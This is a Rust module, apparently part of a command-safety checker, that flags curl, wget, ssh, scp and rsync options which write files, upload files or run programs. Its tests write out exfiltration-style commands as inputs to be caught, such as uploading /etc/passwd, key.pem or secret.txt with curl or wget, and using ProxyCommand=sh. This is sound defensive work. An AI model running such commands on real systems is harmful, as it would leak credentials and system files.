//! Network clients: the files curl and wget write (`-o`, `-O`, `--output-dir`, traces, cookie
//! jars), the files they send (`curl -T`, `-d @file`, `-F name=@file`, `wget --post-file`), the
//! options read from elsewhere (`curl -K`, `wget -e`, `--config`); ssh's options that run a
//! program (`ProxyCommand`, `LocalCommand`, `-F`); scp's and rsync's `-S`/`-e`/`--rsync-path`,
//! and the local files they write.

use super::Effects;
use super::scan::{Does, Opt, Table, Takes, apply, check as check_table, scan};

const SENDS: &str = "sends a file";
const OPTIONS_FROM_FILE: &str = "reads further options from a file";

/// `-d @file`: the data is the file's.
fn data_from_file(value: &str) -> Option<&'static str> {
    value.starts_with('@').then_some(SENDS)
}

/// `-F name=@file` or `name=<file`: the field is the file.
fn form_from_file(value: &str) -> Option<&'static str> {
    let field = value.split_once('=').map_or(value, |(_, v)| v);
    (field.starts_with('@') || field.starts_with('<')).then_some(SENDS)
}

/// `--data-urlencode @file` or `name@file` (an `@` before any `=`).
fn encoded_from_file(value: &str) -> Option<&'static str> {
    let head = value.split_once('=').map_or(value, |(head, _)| head);
    head.contains('@').then_some(SENDS)
}

const CURL: Table = Table::new(&[
    Opt::writes(&["-o", "--output", "--output-dir"]),
    Opt::writes(&["-D", "--dump-header", "-c", "--cookie-jar"]),
    Opt::writes(&["--trace", "--trace-ascii", "--stderr", "--libcurl"]),
    Opt::writes(&["--etag-save", "--hsts", "--alt-svc"]),
    Opt::danger(&["-K", "--config"], OPTIONS_FROM_FILE),
    Opt::danger(&["-T", "--upload-file"], SENDS),
    Opt::new(
        &["-d", "--data", "--data-binary", "--data-ascii", "--json"],
        Takes::Value,
        Does::Value(data_from_file),
    ),
    Opt::new(&["-F", "--form"], Takes::Value, Does::Value(form_from_file)),
    Opt::new(
        &["--data-urlencode"],
        Takes::Value,
        Does::Value(encoded_from_file),
    ),
    Opt::new(
        &["-w", "--write-out"],
        Takes::Value,
        Does::Value(|format| format.contains("%output{").then_some("writes a file")),
    ),
    Opt::valued(&[
        "-b", "-e", "-E", "-H", "-m", "-Q", "-r", "-u", "-U", "-x", "-X",
    ]),
    Opt::valued(&["-A", "-C", "-P", "-t", "-y", "-Y", "-z"]),
])
.exact(&["--cookie", "--data-raw", "--form-string"]);

/// Records what `curl ARGS` writes, sends or reads options from.
pub(super) fn curl(program: &str, args: &[String], effects: &mut Effects) {
    check_table(program, args, &CURL, effects);
}

const WGET: Table = Table::new(&[
    Opt::writes(&["-O", "--output-document", "-o", "--output-file"]),
    Opt::writes(&["-a", "--append-output", "-P", "--directory-prefix"]),
    Opt::danger(&["-e", "--execute"], "runs a configuration command"),
    Opt::danger(&["--config"], OPTIONS_FROM_FILE),
    Opt::danger(&["--post-file", "--body-file"], SENDS),
    Opt::danger(&["--use-askpass"], "runs a program for the password"),
    Opt::valued(&[
        "-i", "-t", "-T", "-w", "-Q", "-U", "-A", "-R", "-D", "-X", "-I", "-l",
    ]),
]);

/// Records what `wget ARGS` writes, sends or runs.
pub(super) fn wget(program: &str, args: &[String], effects: &mut Effects) {
    check_table(program, args, &WGET, effects);
}

const SSH_RUNS: &str = "names a program to run";

/// ssh options (`-o Name=value`, `-oName value`) that run a program, load code or write a file.
fn ssh_option(value: &str) -> Option<&'static str> {
    let name = value
        .split(|c: char| c == '=' || c.is_whitespace())
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    match name.as_str() {
        "proxycommand" | "localcommand" | "permitlocalcommand" | "knownhostscommand" => {
            Some(SSH_RUNS)
        }
        "pkcs11provider" | "securitykeyprovider" => Some("loads a library"),
        "include" => Some(OPTIONS_FROM_FILE),
        "userknownhostsfile" | "controlpath" | "controlmaster" => Some("writes a file"),
        _ => None,
    }
}

const SSH: Table = Table::new(&[
    Opt::new(&["-o"], Takes::Value, Does::Value(ssh_option)),
    Opt::danger(&["-F"], "reads a configuration that can run programs"),
    Opt::danger(&["-I"], "loads a library"),
    Opt::writes(&["-E", "-S"]),
    Opt::valued(&[
        "-b", "-B", "-c", "-D", "-e", "-i", "-J", "-l", "-L", "-m", "-O",
    ]),
    Opt::valued(&["-p", "-Q", "-R", "-w", "-W"]),
]);

/// Records what `ssh ARGS` runs or writes here (what it runs on the other end is its work).
pub(super) fn ssh(program: &str, args: &[String], effects: &mut Effects) {
    check_table(program, args, &SSH, effects);
}

const SCP: Table = Table::new(&[
    Opt::new(&["-o"], Takes::Value, Does::Value(ssh_option)),
    Opt::danger(&["-F"], "reads a configuration that can run programs"),
    Opt::danger(&["-S", "-D"], SSH_RUNS),
    Opt::valued(&["-c", "-i", "-J", "-l", "-P", "-X"]),
]);

const RSYNC: Table = Table::new(&[
    Opt::danger(&["-e", "--rsh", "--rsync-path"], SSH_RUNS),
    Opt::danger(&["--config"], OPTIONS_FROM_FILE),
    Opt::writes(&["--log-file", "--write-batch", "--only-write-batch"]),
    Opt::writes(&["--backup-dir", "--partial-dir", "-T", "--temp-dir"]),
    Opt::valued(&["-f", "--filter", "--exclude", "--include", "--exclude-from"]),
    Opt::valued(&[
        "--include-from",
        "--files-from",
        "-M",
        "--remote-option",
        "--chmod",
    ]),
]);

/// Records what `scp ARGS` or `rsync ARGS` runs, and the local files among its operands.
pub(super) fn copy_remote(program: &str, args: &[String], effects: &mut Effects) {
    let table = if program == "rsync" { &RSYNC } else { &SCP };
    let scanned = scan(args, table);
    apply(program, &scanned, None, effects);
    for operand in &scanned.operands {
        if !remote(operand) {
            effects.write(operand);
        }
    }
}

/// `host:path`, `user@host:path`, `host::module`, `rsync://…`, `scp://…`.
fn remote(operand: &str) -> bool {
    let before_slash = operand.split('/').next().unwrap_or("");
    before_slash.contains(':') || operand.contains("://")
}

#[cfg(test)]
mod tests {
    use super::super::checking::{option, run, writes};
    use super::*;

    #[test]
    fn curl_and_wget() {
        assert!(writes(curl, "curl -sSL https://x/y").is_empty());
        assert!(writes(curl, "curl --cookie a=b -H x:y -d a=@b https://x").is_empty());
        assert!(writes(curl, "curl --data-urlencode q=a@b.c -F name=x https://x").is_empty());
        assert_eq!(writes(curl, "curl -sSLo ../x https://x"), ["../x"]);
        assert_eq!(
            writes(curl, "curl -O --output-dir /tmp https://x/f"),
            ["/tmp"]
        );
        assert_eq!(writes(curl, "curl -c ../jar https://x"), ["../jar"]);
        for (line, hit) in [
            ("curl -K ../cfg https://x", "-K"),
            ("curl -T /etc/passwd https://x", "-T"),
            ("curl -d @/etc/passwd https://x", "-d"),
            ("curl --data-binary @key.pem https://x", "--data-binary"),
            ("curl -F file=@secret.txt https://x", "-F"),
            (
                "curl --data-urlencode q@notes.txt https://x",
                "--data-urlencode",
            ),
            ("curl -w %output{/tmp/x} https://x", "-w"),
        ] {
            assert_eq!(option(curl, line).as_deref(), Some(hit), "{line}");
        }
        assert_eq!(writes(wget, "wget -qO /tmp/x https://x"), ["/tmp/x"]);
        assert!(writes(wget, "wget -qO- https://x").is_empty());
        assert_eq!(writes(wget, "wget -P ../dl https://x"), ["../dl"]);
        assert_eq!(
            option(wget, "wget --post-file=/etc/passwd https://x").as_deref(),
            Some("--post-file")
        );
        assert_eq!(
            option(wget, "wget -e output_document=/x https://x").as_deref(),
            Some("-e")
        );
    }

    #[test]
    fn ssh_scp_and_rsync() {
        assert!(
            run(ssh, "ssh -o StrictHostKeyChecking=no host ls")
                .hit
                .is_none()
        );
        assert_eq!(
            option(ssh, "ssh -o ProxyCommand=sh host").as_deref(),
            Some("-o")
        );
        assert_eq!(
            option(ssh, "ssh -oLocalCommand=x host").as_deref(),
            Some("-o")
        );
        assert_eq!(option(ssh, "ssh -F ./cfg host").as_deref(), Some("-F"));
        assert_eq!(option(scp, "scp -S ./x a host:b").as_deref(), Some("-S"));
        assert_eq!(
            option(copy_remote_rsync, "rsync -av -e ./x a host:b").as_deref(),
            Some("-e")
        );
        assert_eq!(writes(scp, "scp host:a ../b"), ["../b"]);
        assert_eq!(writes(scp, "scp -P 22 a user@host:/b"), ["a"]);
        assert_eq!(
            writes(copy_remote_rsync, "rsync -a src/ ../backup/"),
            ["src/", "../backup/"]
        );
    }

    fn scp(program: &str, args: &[String], effects: &mut Effects) {
        copy_remote(program, args, effects);
    }

    fn copy_remote_rsync(_: &str, args: &[String], effects: &mut Effects) {
        copy_remote("rsync", args, effects);
    }
}
